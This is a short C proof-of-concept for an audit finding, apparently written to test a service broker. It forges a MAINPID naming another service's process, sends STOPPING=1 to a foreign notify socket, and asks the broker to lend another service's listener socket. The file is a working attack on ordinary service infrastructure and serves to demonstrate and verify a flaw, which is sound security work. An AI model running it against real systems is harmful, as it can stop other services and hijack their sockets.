/*
 * Finding 4. A worker names a process of another service as its main process, writes to the other's notify socket, and asks
 * for the other's listener. foreign-main BROKER LISTENER PID NOTIFY-SOCKET
 */
#include "attack.h"

int main(int argc, char **argv)
{
    if (argc != 5)
        errno = EINVAL, broken("foreign-main BROKER LISTENER PID NOTIFY-SOCKET");
    char text[256], answer[65536];
    int fds[MOST_DESCRIPTORS], count, pidfd = (int)syscall(SYS_pidfd_open, atoi(argv[3]), 0);
    snprintf(text, sizeof text, "MAINPID=%s\nSTATUS=forged", argv[3]);
    if (notify_at(notify_path(), text, &pidfd, pidfd >= 0, 0) != 0 && notify_at(notify_path(), text, NULL, 0, 0) != 0)
        broken("the own notify socket");
    if (notify_at(argv[4], "STATUS=forged\nSTOPPING=1", NULL, 0, 0) == 0)
        succeeded("%s takes messages of uid %d", argv[4], getuid());
    int fd = dial(argv[1], SOCK_SEQPACKET);
    snprintf(text, sizeof text, "{\"method\":\"take\",\"listeners\":[\"%s\"]}", argv[2]);
    if (fd < 0 || send(fd, text, strlen(text), MSG_NOSIGNAL) < 0)
        broken("the broker");
    long n = receive_with(fd, answer, sizeof answer - 1, fds, &count, 0);
    answer[n > 0 ? n : 0] = 0;
    if (count > 0)
        succeeded("listener %s was lent: %s", argv[2], answer);
    failed("%s", answer);
}
